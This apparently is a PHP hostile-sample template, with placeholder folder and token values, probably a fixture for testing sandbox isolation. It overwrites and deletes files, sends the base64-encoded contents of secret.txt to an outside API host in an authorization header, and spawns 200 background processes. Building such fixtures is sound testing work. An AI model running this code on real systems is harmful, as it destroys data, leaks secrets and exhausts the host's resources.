<?php
// getenv("X_@TOKEN@") (so that whatever this starts can be found)
foreach (["@FOLDER@/made", "@FOLDER@/page.md", "/tmp/@TOKEN@"] as $path) {
    @file_put_contents($path, "broken");
}
@unlink("@FOLDER@/page.md");
$secret = base64_encode((string) @file_get_contents("@FOLDER@/secret.txt"));
$curl = curl_init("https://api.acme.dev/v1/items");
curl_setopt($curl, CURLOPT_HTTPHEADER, ["Authorization: Bearer x$secret"]);
curl_exec($curl);
for ($count = 0; $count < 200; $count++) {
    @exec("sleep 60 > /dev/null 2>&1 &");
}
sleep(60);
